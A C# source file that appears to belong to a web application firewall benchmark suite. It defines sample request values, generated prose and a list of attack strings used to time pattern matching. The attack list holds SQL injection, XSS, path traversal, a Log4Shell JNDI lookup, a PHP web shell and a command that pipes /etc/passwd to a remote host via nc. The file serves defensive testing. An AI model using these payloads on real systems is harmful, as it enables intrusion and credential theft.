using System.Text;

namespace WafOperator.Benchmarks.Matching;

/// <summary>Values as requests carry them.</summary>
internal static class Samples
{
    private static readonly string[] s_values =
    [
        "John Smith", "application/json, text/plain, */*", "gzip, deflate, br", "en-US,en;q=0.9", "12345", "keep-alive",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 "
            + "Safari/537.36",
        "/api/v1/products/search", "category=books&sort=price_asc&page=2", "2024-01-15T10:30:00Z", "alice@example.com",
        "Please tell me about the order I placed last week, it hasn't arrived yet.",
            "http://example.com/a/page?x=1&y=2",
        "session=abc123def456; theme=dark; _ga=GA1.2.1234567890.1234567890",
    ];

    private static readonly string[] s_attacks =
    [
        "1' or '1'='1' --", "1 UNION ALL SELECT user,password FROM users", "<script>alert(document.cookie)</script>",
        "../../../../etc/passwd", "; cat /etc/passwd | nc 10.0.0.1 4444", "\"><img src=x onerror=alert(1)>",
        "${jndi:ldap://evil.example/a}", "<?php system($_GET['c']); ?>", "sleep(5)#", "javascript:eval(name)",
    ];

    private const string Sentence =
        "The delivery came on Tuesday, and the box (a large one) was in good shape; thank you for the quick answer. ";

    public static (string Name, byte[][] Inputs)[] Groups { get; } =
    [
        ("short benign values", Encode(s_values)),
        ("attacks", Encode(s_attacks)),
        ("4 KiB of prose", [Prose(4 << 10)]),
        ("64 KiB of prose", [Prose(64 << 10)]),
    ];

    private static byte[][] Encode(string[] values) => Array.ConvertAll(values, Encoding.Latin1.GetBytes);

    private static byte[] Prose(int length)
    {
        var text = new StringBuilder();
        while (text.Length < length) text.Append(Sentence);
        return Encoding.Latin1.GetBytes(text.ToString(0, length));
    }
}
